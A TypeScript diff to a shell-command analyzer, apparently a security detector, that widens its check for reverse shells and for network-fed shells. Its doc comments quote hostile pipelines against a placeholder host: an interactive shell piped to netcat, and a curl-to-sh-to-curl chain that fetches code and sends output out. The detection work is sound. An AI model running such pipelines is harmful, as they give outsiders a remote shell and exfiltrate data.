@@ -31,7 +31,8 @@ export function follow_data(analysis: Analysis, out: Collector): void {
   }
   for (const { from, to } of analysis.flows) {
     if (from.kind !== 'command' || to.kind === 'file') continue
-    if (to.kind === 'stdin') shell_on_line(analysis, out, from.index, to.index, own)
+    if (to.kind === 'stdin')
+      shell_on_line(analysis, out, from.index, to.index, own, carried.get(from.index)?.includes('net') === true)
     const taints = carried.get(from.index)
     if (taints === undefined) continue
     if (to.kind === 'code' || to.kind === 'head' || obeys(analysis.commands[to.index], to))
@@ -80,15 +81,25 @@ function shows_sourced(analysis: Analysis, out: Collector): void {
 const INTERACTIVE_SHELL = /^(?:sh|bash|zsh|dash|ksh|ash|fish|csh|tcsh)$/
 
 /** `sh -i | nc host port`: whoever is on the line sees what the shell prints, and the pipe back brings what it runs. */
-function shell_on_line(analysis: Analysis, out: Collector, from: number, to: number, own: OwnDrafts): void {
+function shell_on_line(
+  analysis: Analysis,
+  out: Collector,
+  from: number,
+  to: number,
+  own: OwnDrafts,
+  /** `curl host/in | sh | curl -d @- host/out`: what it runs comes from the network, too. */
+  told: boolean,
+): void {
   const shell = analysis.commands[from]
   if (shell === undefined || !INTERACTIVE_SHELL.test(shell.name)) return
   const line = own(to).find(
-    (draft) => draft.kind === 'net.send' && draft.fields.method === 'raw' && draft.fields.host_kind !== 'loopback',
+    ({ kind, fields }) =>
+      ((kind === 'net.send' && (told || fields.method === 'raw')) || fields.method === 'tls') &&
+      fields.host_kind !== 'loopback',
   )
   if (line === undefined) return
   const fed = out.drafts.some((draft) => draft.fields.fifo === true)
-  if (!fed && !shell.args.some((word) => /^-[a-z]*i[a-z]*$/.test(word.text))) return
+  if (!told && !fed && !shell.args.some((word) => /^-[a-z]*i[a-z]*$/.test(word.text))) return
   const [d1, d3] = base_of_kind('net.shell', {}, [], 'remote')
   out.drafts.push({ ...line, kind: 'net.shell', fields: { ...line.fields, mechanism: 'pipe' }, d: [d1, 0, d3] })
 }
